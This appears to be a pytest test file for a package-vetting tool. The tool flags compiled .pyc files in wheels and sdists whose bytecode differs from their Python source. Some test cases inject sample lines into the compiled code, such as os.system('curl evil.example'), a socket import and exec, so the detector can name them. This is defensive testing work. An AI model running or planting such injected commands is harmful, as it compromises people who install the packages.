"""Compiled modules beside their source: what is the same, what is not, and which of them Python runs."""

import marshal
import struct
from pathlib import Path

import pytest

from tests.support.wheels import build_sdist, build_wheel
from wheelhouse.vet.code.compiled import source_path, unlike_source
from wheelhouse.vet.code.marshal_reader import MarshalError, read_marshal
from wheelhouse.vet.facts_reader import OWN_MAGIC, look_inside

PATH = "odd/__pycache__/x.cpython-312.pyc"
SOURCE = '''"""A module."""
from __future__ import annotations
import os, json as j
LINE = "-" * 60 + "end"
class Thing:
    """A thing,
    with two lines."""
    size: int | None = 3
    def __private(self, *names: "str", key=b"raw", **more):
        def inner(): return f"{self!r} is {names:>10}" + "%s%%" % key
        return [name.upper() for name in names if name not in {1, 2.5, 3j, ..., None, -7, 1 << 70}], inner
async def fetch(a, /, b): assert a, "text"; return lambda: (yield)
'''
OTHER = next(magic for magic in (3531, 3495) if magic != OWN_MAGIC)
"""The magic number of another Python whose code has the same fields."""


def compiled(
    source: str, magic: int = OWN_MAGIC, *, flags: int = 0, size: int | None = None, optimize: int = 0
) -> bytes:
    code = compile(source, "somewhere.py", "exec", dont_inherit=True, optimize=optimize)
    header = struct.pack("<H", magic) + b"\r\n" + struct.pack("<III", flags, 0, len(SOURCE) if size is None else size)
    return header + marshal.dumps(code)


def difference(data: bytes, path: str = PATH, source: str = SOURCE) -> list[str]:
    return [one.what for one in unlike_source({path: data}, {"odd/x.py": source.encode()}, OWN_MAGIC)]


@pytest.mark.parametrize("magic", [OWN_MAGIC, OTHER])
@pytest.mark.parametrize("level", [0, 1, 2])
def test_what_a_source_compiles_to_is_no_finding(magic: int, level: int) -> None:
    path = f"odd/__pycache__/x.cpython-312{f'.opt-{level}' if level else ''}.pyc"
    assert difference(compiled(SOURCE, magic, optimize=level), path) == []


CHANGES = {
    "a number": ("size: int | None = 3", "size: int | None = 4"),
    "a condition": ("if name not in", "if name in"),
    "a statement less": ('assert a, "text"; ', ""),
}


@pytest.mark.parametrize("change", CHANGES)
def test_this_python_compares_instructions(change: str) -> None:
    altered = SOURCE.replace(*CHANGES[change])
    assert altered != SOURCE
    assert difference(compiled(altered)) == ["its instructions are not those of its source"]


@pytest.mark.parametrize("magic", [OWN_MAGIC, OTHER])
@pytest.mark.parametrize(
    ("added", "words"),
    [
        ("os.system('curl evil.example')", ["`curl evil.example`", "`system`"]),
        ("__import__('socket')", ["`socket`"]),
        ("exec(b'print(1)')", ["`exec`", "`print(1)`"]),
    ],
)
def test_names_and_texts_that_the_source_has_not_are_named(magic: int, added: str, words: list[str]) -> None:
    (what,) = difference(compiled(f"{SOURCE}{added}\n", magic))
    assert all(word in what for word in words)


def test_the_header_decides_what_python_runs() -> None:
    altered = SOURCE.replace("size: int | None = 3", "size: int | None = 4")
    assert difference(compiled(altered)) and difference(compiled(altered, flags=1, size=0))
    assert difference(compiled(altered, flags=3, size=0))
    assert difference(compiled(altered, size=7)) == [], "Python compiles a source of another size anew"
    assert difference(compiled(altered, 3379)) == [], "Python 3.6 had another header"
    assert difference(compiled(altered)[:15]) == []


def test_only_the_cache_of_a_source_is_compared() -> None:
    assert source_path(PATH) == "odd/x.py" and source_path("__pycache__/a.b.cpython-39.opt-1.pyc") == "a.b.py"
    assert source_path("odd/x.pyc") is source_path("odd/__pycache__/x.pyc.txt") is None
    assert difference(compiled(SOURCE + "import this\n"), "other/__pycache__/x.cpython-312.pyc") == []


def test_damaged_data_are_a_difference_and_do_no_harm() -> None:
    whole = compiled(SOURCE)
    for end in range(16, len(whole), 7):
        assert difference(whole[:end])[0].startswith("it cannot be read")
    for data in (b"\xa9\x01" * 5000, b"(\xff\xff\xff\xff", b"[\xff\xff\xff\x7f", b"r\x05\0\0\0", b"l\0\0\0\x80", b"Q"):
        with pytest.raises(MarshalError):
            read_marshal(data, OWN_MAGIC)
    assert difference(whole[:16] + b"N") == ["it has `no code`"]


def test_a_source_that_does_not_parse_is_not_compared() -> None:
    assert difference(compiled(SOURCE, size=7), source="print 1") == []
    assert difference(compiled(SOURCE, size=8), source="exec 'x'") == []


def test_wheels_and_sdists_are_compared(tmp_path: Path) -> None:
    altered = compiled(f"{SOURCE}import socket\n", flags=1)
    files = {"odd/x.py": SOURCE.encode(), PATH: altered}
    for path in (build_wheel(tmp_path, "odd", "1.0", files=files), build_sdist(tmp_path, "odd", "1.0", files=files)):
        _, inside = look_inside(path, path.name)
        assert [one.path.endswith(PATH) for one in inside.behaviours if one.kind == "unlike-pyc"] == [True]
